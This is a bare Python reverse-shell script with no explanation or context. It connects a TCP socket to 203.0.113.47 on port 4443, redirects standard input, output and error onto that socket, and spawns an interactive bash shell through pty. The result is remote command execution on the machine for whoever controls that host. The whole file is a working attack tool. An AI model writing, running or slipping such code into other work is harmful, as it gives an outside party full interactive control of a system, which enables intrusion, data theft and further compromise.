import os
import pty
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(('203.0.113.47', 4443))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn('/bin/bash')
